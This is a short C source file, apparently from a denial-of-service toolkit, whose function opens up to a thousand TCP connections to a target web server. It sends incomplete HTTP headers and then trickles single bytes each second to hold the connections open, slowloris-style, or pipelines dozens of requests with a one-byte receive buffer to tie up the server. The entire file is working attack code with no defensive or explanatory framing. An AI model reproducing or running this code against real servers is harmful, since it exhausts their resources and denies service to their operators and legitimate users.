/* Connections that are opened to occupy the server. */
#include "attacks.h"

enum { NANOSLEEP = 35, SO_RCVBUF = 8, CONNECTIONS_MAX = 1000, REQUESTS = 50 };

static const char head[] = "GET / HTTP/1.1\r\nHost: a\r\n";
static const char end[] = "\r\n";
static const char drop[] = "X";

static void pause_for_second(void) {
  struct {
    int64_t seconds, nanoseconds;
  } time = {1, 0};
  call(NANOSLEEP, (long)&time, 0, 0, 0, 0, 0);
}

void hold(struct target target, uint32_t count, uint32_t seconds, int takes_nothing) {
  static long connections[CONNECTIONS_MAX];
  const struct address to = address_of(target.host, target.port);
  const int32_t least = 1;
  uint32_t open = 0;
  for (uint32_t i = 0; i < count && i < CONNECTIONS_MAX; i++) {
    long fd = connections[open] = open_socket(SOCK_STREAM);
    call(SETSOCKOPT, fd, SOL_SOCKET, SO_RCVBUF, (long)&least, sizeof least, 0);
    if (fd < 0 || call(CONNECT, fd, (long)&to, sizeof to, 0, 0, 0) != 0) continue;
    open++;
    send_bytes(fd, head, sizeof head - 1);
    for (int request = 0; takes_nothing && request < REQUESTS; request++) {
      send_bytes(fd, end, sizeof end - 1);
      send_bytes(fd, head, sizeof head - 1);
    }
  }
  call(WRITE, 1, (long)"ready\n", 6, 0, 0, 0);
  for (uint32_t second = 0; second < seconds; second++) {
    pause_for_second();
    for (uint32_t i = 0; !takes_nothing && i < open; i++) send_bytes(connections[i], drop, 1);
  }
  say_number(open);
  call(EXIT, 0, 0, 0, 0, 0, 0);
}
